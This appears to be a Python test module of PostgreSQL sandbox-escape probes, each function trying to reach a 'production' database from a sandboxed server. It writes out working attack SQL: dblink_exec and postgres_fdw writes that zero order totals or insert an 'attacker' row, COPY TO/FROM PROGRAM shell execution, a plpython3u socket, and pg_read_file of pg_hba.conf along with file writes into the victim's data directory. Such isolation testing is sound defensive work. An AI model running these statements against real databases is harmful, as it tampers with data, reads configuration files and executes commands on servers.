"""SQL in the sandbox's server, which connects, starts programs and opens files by itself."""

from pathlib import Path
from typing import Any

import sqlalchemy as sa

ASK = "SELECT current_database()"


def _run(statement: str, **values: Any) -> Any:
    from alembic import op

    return op.get_bind().execute(sa.text(statement), values)


def _plainly(statement: str) -> None:
    """Run what refuses to be in a transaction."""
    from alembic import context, op

    with context.get_context().autocommit_block():
        op.get_bind().exec_driver_sql(statement)


def _dsn(to: Any) -> str:
    return f"host={to.host} port={to.port} user={to.user} dbname={to.database}"


def _server(to: Any) -> None:
    _run("CREATE EXTENSION postgres_fdw")
    _run(
        "CREATE SERVER production FOREIGN DATA WRAPPER postgres_fdw"
        f" OPTIONS (host '{to.host}', port '{to.port}', dbname '{to.database}')"
    )
    _run(f"CREATE USER MAPPING FOR public SERVER production OPTIONS (user '{to.user}')")
    _run("CREATE FOREIGN TABLE far (id int, customer text, total numeric) SERVER production"
         " OPTIONS (schema_name 'public', table_name 'orders')")  # fmt: skip


def dblink(to: Any) -> str:
    """`dblink`"""
    _run("CREATE EXTENSION dblink")
    return str(_run(f"SELECT * FROM dblink('{_dsn(to)}', '{ASK}') AS t (name text)").scalar_one())


def dblink_exec(to: Any) -> str:
    """`dblink_exec`, an UPDATE"""
    _run("CREATE EXTENSION dblink")
    _run(f"SELECT dblink_exec('{_dsn(to)}', 'UPDATE orders SET total = 0')")
    return "shop"


def postgres_fdw_read(to: Any) -> str:
    """`postgres_fdw`, a SELECT"""
    _server(to)
    _run("SELECT count(*) FROM far").scalar_one()
    return "shop"


def postgres_fdw_insert(to: Any) -> str:
    """`postgres_fdw`, an INSERT"""
    _server(to)
    _run("INSERT INTO far VALUES (-1, 'attacker', 0)")
    return "shop"


def postgres_fdw_import(to: Any) -> str:
    """`IMPORT FOREIGN SCHEMA`"""
    _server(to)
    _run("CREATE SCHEMA imported")
    _run("IMPORT FOREIGN SCHEMA public FROM SERVER production INTO imported")
    return "shop"


def subscription(to: Any) -> str:
    """`CREATE SUBSCRIPTION`"""
    _plainly(f"CREATE SUBSCRIPTION {to.over} CONNECTION '{_dsn(to)}' PUBLICATION production")
    return "shop"


def subscription_later(to: Any) -> str:
    """`CREATE SUBSCRIPTION … (connect = false)`, enabled afterwards"""
    name = f"later_{to.over}"
    _plainly(f"CREATE SUBSCRIPTION {name} CONNECTION '{_dsn(to)}' PUBLICATION production WITH (connect = false)")
    _plainly(f"ALTER SUBSCRIPTION {name} ENABLE")
    _plainly(f"ALTER SUBSCRIPTION {name} REFRESH PUBLICATION")
    return "shop"


def subscription_connection(to: Any) -> str:
    """`ALTER SUBSCRIPTION … CONNECTION`, enabled and left to the server"""
    name = f"moved_{to.over}"
    _plainly(
        f"CREATE SUBSCRIPTION {name} CONNECTION 'host=/nowhere' PUBLICATION production"
        f" WITH (connect = false, slot_name = '{name}')"
    )
    _plainly(f"ALTER SUBSCRIPTION {name} CONNECTION '{_dsn(to)}'")
    _plainly(f"ALTER SUBSCRIPTION {name} ENABLE")
    return str(_run(ASK).scalar_one())


def copy_to_program(to: Any) -> str:
    """`COPY … TO PROGRAM 'psql …'`"""
    command = f'{to.psql} -X -v ON_ERROR_STOP=1 "{_dsn(to)}"'
    _run(f"COPY (SELECT 'UPDATE orders SET total = 0') TO PROGRAM '{command}'")
    return "shop"


def copy_from_program(to: Any) -> str:
    """`COPY … FROM PROGRAM 'psql …'`"""
    _run("CREATE TABLE IF NOT EXISTS answer (name text)")
    command = f'{to.psql} -XAtc "{ASK}" "{_dsn(to)}"'
    _run(f"COPY answer FROM PROGRAM '{command}'")
    return str(_run("SELECT max(name) FROM answer").scalar_one())


def copy_from_program_later(to: Any) -> str:
    """`COPY … FROM PROGRAM` of a program that goes on in the background"""
    file = Path(to.folder, "server", f"later-{to.over}")
    command = f'(sleep 2; {to.psql} -XAtc "{ASK}" "{_dsn(to)}") > {file} 2>&1 < /dev/null &'
    _run(f"COPY (SELECT 1) TO PROGRAM '{command}'")
    return f"later: {file}"


def file_fdw_program(to: Any) -> str:
    """`file_fdw` with a program"""
    _run("CREATE EXTENSION file_fdw")
    _run("CREATE SERVER programs FOREIGN DATA WRAPPER file_fdw")
    command = f'{to.psql} -XAtc "{ASK}" "{_dsn(to)}"'
    _run(f"CREATE FOREIGN TABLE answer (name text) SERVER programs OPTIONS (program '{command}')")
    return str(_run("SELECT max(name) FROM answer").scalar_one())


def plpython(to: Any) -> str:
    """`plpython3u`"""
    _run("CREATE EXTENSION plpython3u")
    _run(
        "CREATE FUNCTION reach() RETURNS text LANGUAGE plpython3u AS"
        f" $$import socket; socket.create_connection(('127.0.0.1', {to.port})); return 'shop'$$"
    )
    return str(_run("SELECT reach()").scalar_one())


def server_files_copy(to: Any) -> str:
    """`COPY … TO` a file in the victim's data directory"""
    _run(f"COPY (SELECT 1) TO '{to.victim_data}/attacked-{to.over}'")
    return "wrote a file of production"


def server_files_read(to: Any) -> str:
    """`pg_read_file` of the victim's files"""
    _run(f"SELECT pg_read_file('{to.victim_data}/pg_hba.conf')").scalar_one()
    return "read a file of production"


def server_files_lo_export(to: Any) -> str:
    """`lo_export` to a file in the victim's data directory"""
    made = _run("SELECT lo_from_bytea(0, 'attack')").scalar_one()
    _run(f"SELECT lo_export({made}, '{to.victim_data}/exported-{to.over}')")
    return "wrote a file of production"


def server_standby(to: Any) -> str:
    """`ALTER SYSTEM SET primary_conninfo`, a standby of production"""
    _plainly(f"ALTER SYSTEM SET primary_conninfo = '{_dsn(to)}'")
    _run("SELECT pg_reload_conf()")
    _plainly("ALTER SYSTEM RESET primary_conninfo")
    return str(_run(ASK).scalar_one())
